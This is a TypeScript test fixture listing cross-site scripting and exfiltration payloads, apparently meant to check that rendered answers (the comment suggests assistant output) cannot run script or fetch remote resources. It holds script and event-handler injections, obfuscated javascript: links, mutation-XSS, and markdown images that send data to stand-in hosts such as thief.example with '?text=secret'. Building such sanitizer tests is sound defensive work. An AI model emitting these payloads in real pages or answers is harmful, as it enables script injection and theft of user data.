/** Where an answer would carry what it was told to steal. Nothing listens there: to be asked at all is the failure. */
const thief = "http://127.0.0.1:9/stolen";
const secureThief = "https://thief.example/stolen";

/** Answers that try to run code in the page, or to make it ask another server for something. */
export const payloads: readonly string[] = [
  // Scripts
  "<script>alert(1)</script>",
  `<script src="${thief}.js"></script>`,
  "<ScRiPt>alert(1)</sCrIpT>",
  "<svg><script>alert(1)</script></svg>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  // Event handlers
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<div style="animation-name:x" onanimationstart="alert(1)">x</div>',
  '<a href="#" onmouseover="alert(1)">move here</a>',
  // Links that run
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java&#115;cript:alert(1))",
  "[click](javascript&colon;alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox(1))",
  "<javascript:alert(1)>",
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  "[click][1]\n\n[1]: javascript:alert(1)",
  // Pictures and what else a page fetches by itself
  `![x](${thief}.png)`,
  `![x](${secureThief}?text=secret)`,
  `![x][2]\n\n[2]: ${secureThief}`,
  "![x](//thief.example/x.png)",
  "![x](javascript:alert(1))",
  `<img src="${thief}.png">`,
  `<img srcset="${thief}.png 1x">`,
  `<picture><source srcset="${secureThief}"><img></picture>`,
  `<iframe src="${thief}"></iframe>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<object data="${thief}"></object><embed src="${thief}">`,
  `<link rel="stylesheet" href="${thief}.css"><link rel="prefetch" href="${secureThief}">`,
  `<style>@import "${thief}.css"; * { background: url(${thief}) }</style>`,
  `<div style="background:url(${thief}.png)">x</div>`,
  `<meta http-equiv="refresh" content="0;url=${thief}"><base href="${secureThief}">`,
  `<form action="${thief}" id="f"><button>x</button></form><audio src="${thief}" autoplay></audio>`,
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>',
];
